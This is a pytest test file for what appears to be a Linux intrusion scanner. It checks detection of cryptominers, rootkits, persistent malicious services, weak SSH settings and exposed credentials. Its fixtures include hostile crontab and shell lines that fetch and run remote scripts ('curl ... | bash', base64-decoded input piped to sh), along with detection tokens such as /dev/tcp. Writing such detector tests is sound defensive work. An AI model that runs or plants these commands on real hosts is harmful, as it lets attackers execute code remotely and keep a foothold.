from __future__ import annotations

import pytest

from sentinel.analyzers import default_analyzers
from sentinel.analyzers.credentials import CredentialAnalyzer
from sentinel.analyzers.crontabs import CrontabAnalyzer
from sentinel.analyzers.filesystem import FilesystemAnalyzer
from sentinel.analyzers.firewall import FirewallAnalyzer, is_ssh_open_to_all
from sentinel.analyzers.network import NetworkAnalyzer
from sentinel.analyzers.processes import ProcessAnalyzer, binary_path
from sentinel.analyzers.rootkit import RootkitAnalyzer
from sentinel.analyzers.shell import ShellAnalyzer, classify_token
from sentinel.analyzers.ssh import SSHAnalyzer
from sentinel.analyzers.systemd import SystemdAnalyzer, exec_binary
from sentinel.analyzers.utils import truncate
from sentinel.models import MODULE_NAMES, CollectedData, Severity

EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


def _severities(findings):
    return [f.severity for f in findings]


def _proc(command: str, cpu: float = 0.1, pid: int = 100, user: str = "root"):
    return {"user": user, "pid": pid, "cpu": cpu, "mem": 0.1, "command": command}


def test_default_analyzers_cover_every_module():
    analyzers = default_analyzers()
    assert set(analyzers) == set(MODULE_NAMES)
    for name, analyzer in analyzers.items():
        assert analyzer.module == name
        assert analyzer.id_prefix


@pytest.mark.parametrize("name", MODULE_NAMES)
def test_analyzers_tolerate_empty_and_malformed_records(intel, name):
    analyzer = default_analyzers()[name]
    garbage = {
        "processes": "nope",
        "connections": [1, None, {"remote_port": "x"}],
        "listening": [{"local_port": None}],
        "service_files": [{"exec_start": 5}],
        "sources": [{"content": None}],
        "sshd_config": [],
        "suspicious_entries": [{"line_number": "?"}],
        "suspicious_executables": [{"path": 3}],
        "ufw": "on",
        "env_files": [None],
    }
    analyzer.analyze(CollectedData(module=name), intel)
    analyzer.analyze(CollectedData(module=name, records=garbage), intel)


@pytest.mark.parametrize("name", MODULE_NAMES)
def test_analyzers_tolerate_missing_records(intel, name):
    analyzer = default_analyzers()[name]
    findings = analyzer.analyze(CollectedData(module=name, records=None), intel)
    if name == "firewall":
        # no firewall data reads as an unprotected host
        assert [f.id for f in findings] == ["FW-001", "FW-002", "FW-003"]
    else:
        assert findings == []


def test_truncate():
    assert truncate("a" * 150) == "a" * 150
    assert truncate("a" * 151) == "a" * 150 + "..."


def test_finding_ids_are_sequential_per_call(intel, collected):
    data = collected("processes", processes=[_proc("/tmp/kdevtmpfsi", cpu=99.0), _proc("/tmp/other")])
    findings = ProcessAnalyzer().analyze(data, intel)
    assert [f.id for f in findings] == [f"PROC-{i:03d}" for i in range(1, len(findings) + 1)]
    assert all(f.module == "processes" for f in findings)


def test_identical_input_gives_identical_findings(intel, collected):
    data = collected("processes", processes=[_proc("/tmp/kdevtmpfsi", cpu=99.0)])
    assert ProcessAnalyzer().analyze(data, intel) == ProcessAnalyzer().analyze(data, intel)


class TestProcessAnalyzer:
    def test_binary_path_strips_tree_glyphs(self):
        assert binary_path(" \\_ /tmp/.x/miner -o pool") == "/tmp/.x/miner"
        assert binary_path("|   `- /usr/bin/python3 app.py") == "/usr/bin/python3"
        assert binary_path("") == ""

    def test_known_miner_in_tmp_with_high_cpu(self, intel, collected):
        data = collected("processes", processes=[_proc("/tmp/kdevtmpfsi", cpu=99.0)])
        findings = ProcessAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM]
        assert "kdevtmpfsi" in findings[0].title.lower() or "kinsing" in findings[0].title.lower()
        assert findings[0].details["threat"]["family"] == "kinsing"

    def test_hidden_directory(self, intel, collected):
        data = collected("processes", processes=[_proc("/opt/.cache2/agent")])
        findings = ProcessAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH]
        assert "hidden" in findings[0].title

    def test_safe_hidden_directories_are_ignored(self, intel, collected):
        data = collected(
            "processes",
            processes=[
                _proc("/root/.vscode-server/bin/abc/node server.js"),
                _proc("/home/u/.nvm/versions/node/v20/bin/node app.js"),
            ],
        )
        assert ProcessAnalyzer().analyze(data, intel) == []

    def test_hidden_dir_under_tmp_reports_only_temp(self, intel, collected):
        data = collected("processes", processes=[_proc("/tmp/.X25-unix/.rsync/c/lib/64/tsunami")])
        findings = ProcessAnalyzer().analyze(data, intel)
        titles = [f.title for f in findings]
        assert "Process running from temporary directory" in titles
        assert "Process running from hidden directory" not in titles

    def test_clean_process(self, intel, collected):
        data = collected("processes", processes=[_proc("/usr/sbin/sshd -D", cpu=0.3)])
        assert ProcessAnalyzer().analyze(data, intel) == []


class TestNetworkAnalyzer:
    def test_malicious_ip_and_mining_port(self, intel, collected):
        data = collected(
            "network",
            connections=[
                {
                    "local_addr": "10.0.0.5",
                    "local_port": 51234,
                    "remote_addr": "45.9.148.108",
                    "remote_port": 3333,
                    "process": "xmrig",
                    "state": "ESTAB",
                }
            ],
        )
        findings = NetworkAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.CRITICAL, Severity.HIGH]
        assert [f.id for f in findings] == ["NET-001", "NET-002"]

    def test_botnet_port(self, intel, collected):
        data = collected(
            "network",
            connections=[{"remote_addr": "198.51.100.1", "remote_port": 23, "process": "bot"}],
        )
        findings = NetworkAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH]

    def test_listening_backdoor_and_high_port(self, intel, collected):
        data = collected(
            "network",
            listening=[
                {"local_addr": "0.0.0.0", "local_port": 31337, "process": "bd"},
                {"local_addr": "127.0.0.1", "local_port": 8080, "process": "dev"},
                {"local_addr": "0.0.0.0", "local_port": 22, "process": "sshd"},
            ],
        )
        findings = NetworkAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.CRITICAL, Severity.INFO]

    def test_outbound_only_port_is_not_a_listening_match(self, intel, collected):
        data = collected("network", listening=[{"local_addr": "127.0.0.1", "local_port": 3333, "process": "x"}])
        assert NetworkAnalyzer().analyze(data, intel) == []


class TestSystemdAnalyzer:
    def test_exec_binary(self):
        assert exec_binary("-/usr/bin/foo --bar") == "/usr/bin/foo"
        assert exec_binary("!!@/tmp/x arg") == "/tmp/x"
        assert exec_binary("") == ""

    def test_known_service(self, intel, collected):
        data = collected("systemd", enabled_services=[{"name": "kdevtmpfsi.service", "state": "enabled"}])
        findings = SystemdAnalyzer().analyze(data, intel)
        assert len(findings) == 1
        assert findings[0].id == "SVC-001"

    def test_malicious_unit_file(self, intel, collected):
        data = collected(
            "systemd",
            service_files=[
                {
                    "name": "sysupd.service",
                    "path": "/etc/systemd/system/sysupd.service",
                    "exec_start": "/tmp/.x/miner -o pool",
                    "restart": "always",
                    "restart_sec": "5",
                    "standard_output": "null",
                }
            ],
        )
        findings = SystemdAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH, Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM]

    def test_standard_binary_with_aggressive_restart_is_fine(self, intel, collected):
        data = collected(
            "systemd",
            service_files=[
                {"name": "app.service", "exec_start": "/usr/bin/app", "restart": "always", "restart_sec": "1"}
            ],
        )
        assert SystemdAnalyzer().analyze(data, intel) == []

    def test_long_restart_interval_is_fine(self, intel, collected):
        data = collected(
            "systemd",
            service_files=[
                {"name": "app.service", "exec_start": "/opt/app/run", "restart": "always", "restart_sec": "60s"}
            ],
        )
        assert SystemdAnalyzer().analyze(data, intel) == []


class TestCrontabAnalyzer:
    def test_download_and_execute(self, intel, collected):
        data = collected(
            "crontabs",
            sources=[{"label": "root crontab", "content": "*/5 * * * * curl -fsSL http://x/a.sh | bash"}],
        )
        findings = CrontabAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.CRITICAL]
        assert findings[0].details["line_number"] == 1

    def test_base64_temp_and_hidden(self, intel, collected):
        content = "\n".join(
            [
                "# comment with curl x | sh",
                "MAILTO=root",
                "",
                "* * * * * echo aGk= | base64 -d | sh",
                "@reboot /tmp/.x/run",
                "0 * * * * /root/.configrc/a/upd",
            ]
        )
        data = collected("crontabs", sources=[{"label": "/etc/crontab", "content": content}])
        findings = CrontabAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH, Severity.HIGH, Severity.HIGH]
        assert [f.details["line_number"] for f in findings] == [4, 5, 6]
        assert "temporary" in findings[1].title
        assert "hidden" in findings[2].title

    def test_benign_crontab(self, intel, collected):
        data = collected(
            "crontabs",
            sources=[{"label": "/etc/crontab", "content": "17 * * * * root cd / && run-parts --report /etc/cron.hourly"}],
        )
        assert CrontabAnalyzer().analyze(data, intel) == []


class TestRootkitAnalyzer:
    def test_ld_preload_single_entry(self, intel, collected):
        data = collected("rootkit", ld_preload="/etc/data/libsystem.so\n")
        findings = RootkitAnalyzer().analyze(data, intel)
        assert len(findings) == 1
        assert findings[0].severity is Severity.CRITICAL
        assert findings[0].details["entries"] == ["/etc/data/libsystem.so"]
        assert findings[0].details["file"] == "/etc/ld.so.preload"

    def test_ld_preload_comments_only(self, intel, collected):
        data = collected("rootkit", ld_preload="# nothing here\n")
        assert RootkitAnalyzer().analyze(data, intel) == []

    def test_libraries_and_malware_dir(self, intel, collected):
        data = collected(
            "rootkit",
            ld_preload="",
            suspicious_libraries=["/tmp/libhide.so", "/dev/shm/x.so"],
            malware_dir_exists=True,
            malware_dir_files=["kinsing"],
        )
        findings = RootkitAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH, Severity.HIGH, Severity.CRITICAL]


class TestSSHAnalyzer:
    def test_password_auth_only(self, intel, collected):
        data = collected(
            "ssh",
            sshd_config={"password_auth": "yes", "permit_root_login": "no", "permit_empty_passwords": "no"},
            active_sessions=["root pts/0"],
        )
        findings = SSHAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.HIGH]

    def test_everything_wrong(self, intel, collected):
        data = collected(
            "ssh",
            sshd_config={"password_auth": "YES", "permit_root_login": "yes", "permit_empty_passwords": "yes"},
            active_sessions=["root pts/0", "alice pts/1"],
            authorized_keys=[{"path": "/root/.ssh/authorized_keys", "keys": ["ssh-ed25519 AAAA", "ssh-rsa BBBB"]}],
        )
        findings = SSHAnalyzer().analyze(data, intel)
        assert _severities(findings) == [
            Severity.HIGH,
            Severity.MEDIUM,
            Severity.CRITICAL,
            Severity.INFO,
            Severity.INFO,
        ]
        assert findings[-1].details["total_keys"] == 2

    def test_unknown_values_produce_nothing(self, intel, collected):
        data = collected("ssh", sshd_config={"password_auth": "unknown"})
        assert SSHAnalyzer().analyze(data, intel) == []


class TestShellAnalyzer:
    @pytest.mark.parametrize(
        "token,severity",
        [
            ("curl", Severity.HIGH),
            ("/dev/tcp", Severity.HIGH),
            ("base64", Severity.MEDIUM),
            ("python-http", Severity.MEDIUM),
            ("exec", Severity.MEDIUM),
            ("unknown", Severity.HIGH),
        ],
    )
    def test_classify_token(self, token, severity):
        assert classify_token(token) is severity

    def test_one_finding_per_entry(self, intel, collected):
        entries = [
            {"file": "/root/.bashrc", "line_number": 3, "line": "curl x | sh", "matched_pattern": "curl"},
            {"file": "/etc/profile", "line_number": 9, "line": "echo x | base64 -d", "matched_pattern": "base64"},
        ]
        findings = ShellAnalyzer().analyze(collected("shell", suspicious_entries=entries), intel)
        assert [f.id for f in findings] == ["SHELL-001", "SHELL-002"]
        assert _severities(findings) == [Severity.HIGH, Severity.MEDIUM]

    def test_long_lines_are_truncated(self, intel, collected):
        line = "curl " + "a" * 300
        entries = [{"file": "/root/.bashrc", "line_number": 1, "line": line, "matched_pattern": "curl"}]
        finding = ShellAnalyzer().analyze(collected("shell", suspicious_entries=entries), intel)[0]
        assert line not in finding.description
        assert line[:150] + "..." in finding.description
        assert finding.details["line"] == line


class TestFilesystemAnalyzer:
    def test_hash_match_takes_precedence(self, intel, collected):
        data = collected(
            "filesystem",
            suspicious_executables=[{"path": "/tmp/kdevtmpfsi", "size": "2048", "sha256": EICAR_SHA256}],
        )
        findings = FilesystemAnalyzer().analyze(data, intel)
        assert len(findings) == 1
        assert findings[0].details["sha256"] == EICAR_SHA256

    def test_temp_executables(self, intel, collected):
        data = collected(
            "filesystem",
            suspicious_executables=[
                {"path": "/tmp/kdevtmpfsi", "size": "2048", "sha256": ""},
                {"path": "/var/tmp/random", "size": "10", "sha256": ""},
                {"path": "/var/backups/run.sh", "size": "10", "sha256": ""},
            ],
        )
        findings = FilesystemAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.CRITICAL, Severity.HIGH]

    def test_non_temp_path_match(self, intel, collected):
        data = collected(
            "filesystem",
            suspicious_executables=[{"path": "/var/tmp/../lib/x", "size": "1"}, {"path": "/etc/data/kinsing", "size": "1"}],
        )
        findings = FilesystemAnalyzer().analyze(data, intel)
        assert findings[-1].details["path"] == "/etc/data/kinsing"
        assert findings[-1].severity is Severity.CRITICAL

    def test_hidden_dirs_suid_and_world_writable(self, intel, collected):
        data = collected(
            "filesystem",
            hidden_dirs=["/root/.ssh", "/root/.configrc", "/.hidden/", "/root/project/.git"],
            suid_binaries=[{"path": "/usr/bin/sudo", "packaged": True}, {"path": "/opt/rootme", "packaged": False}],
            world_writable=["/etc/passwd"],
        )
        findings = FilesystemAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.MEDIUM, Severity.MEDIUM, Severity.HIGH, Severity.MEDIUM]
        assert findings[0].details["dir_name"] == ".configrc"
        assert findings[1].details["dir_name"] == ".hidden"


class TestFirewallAnalyzer:
    def test_inactive_ufw_reports_ssh_open_regardless_of_iptables(self, intel, collected):
        for iptables in ("", "Chain INPUT (policy DROP)"):
            data = collected(
                "firewall",
                ufw={"active": False, "rules": ""},
                fail2ban={"running": True, "jails": ["sshd"]},
                iptables=iptables,
            )
            findings = FirewallAnalyzer().analyze(data, intel)
            assert _severities(findings) == [Severity.HIGH, Severity.MEDIUM]
            assert findings[1].title == "SSH is not restricted by firewall"

    def test_fail2ban_states(self, intel, collected):
        active_ufw = {"active": True, "rules": "Status: active\n80/tcp ALLOW IN Anywhere"}
        not_running = FirewallAnalyzer().analyze(collected("firewall", ufw=active_ufw, fail2ban={"running": False}), intel)
        assert [f.title for f in not_running] == ["Fail2ban is not running"]

        no_jail = FirewallAnalyzer().analyze(
            collected("firewall", ufw=active_ufw, fail2ban={"running": True, "jails": ["nginx"]}), intel
        )
        assert [f.title for f in no_jail] == ["Fail2ban sshd jail is not active"]

    @pytest.mark.parametrize(
        "ufw,iptables,expected",
        [
            ({"active": True, "rules": "22/tcp ALLOW IN Anywhere"}, "", True),
            ({"active": True, "rules": "OpenSSH ALLOW IN 203.0.113.0/24"}, "", False),
            ({"active": True, "rules": "80/tcp ALLOW IN Anywhere"}, "", False),
            ({"active": False}, "Chain INPUT (policy DROP)\n1 ACCEPT tcp -- 0.0.0.0/0 0.0.0.0/0 tcp dpt:22", True),
            ({"active": False}, "Chain INPUT (policy ACCEPT)", True),
            ({"active": False}, "", True),
            ({"active": True, "rules": ""}, "Chain INPUT (policy DROP)", False),
            ({"active": True, "rules": ""}, "Chain INPUT (policy DROP)\n1 ACCEPT tcp -- 0.0.0.0/0 0.0.0.0/0 tcp dpt:22", True),
            ({"active": True, "rules": ""}, "Chain INPUT (policy DROP)\n1 ACCEPT tcp -- 0.0.0.0/0 0.0.0.0/0 tcp dpt:2222", False),
        ],
    )
    def test_is_ssh_open_to_all(self, ufw, iptables, expected):
        assert is_ssh_open_to_all(ufw, iptables) is expected


class TestCredentialAnalyzer:
    def test_all_credential_kinds(self, intel, collected):
        data = collected(
            "credentials",
            env_files=[{"path": "/srv/app/.env", "size": "2048"}],
            service_account_keys=["/srv/app/sa.json"],
            git_credentials="https://a:b@github.com\n\nhttps://c:d@gitlab.com\n",
            ssh_private_keys=["/root/.ssh/id_rsa", "/home/a/.ssh/id_ed25519"],
        )
        findings = CredentialAnalyzer().analyze(data, intel)
        assert _severities(findings) == [Severity.MEDIUM, Severity.HIGH, Severity.MEDIUM, Severity.INFO]
        assert findings[2].details["credential_count"] == 2
        assert findings[3].details["paths"] == ["/root/.ssh/id_rsa", "/home/a/.ssh/id_ed25519"]
        assert "2.0 KB" in findings[0].description

    def test_nothing_found(self, intel, collected):
        data = collected("credentials", env_files=[], service_account_keys=[], git_credentials=None, ssh_private_keys=[])
        assert CredentialAnalyzer().analyze(data, intel) == []
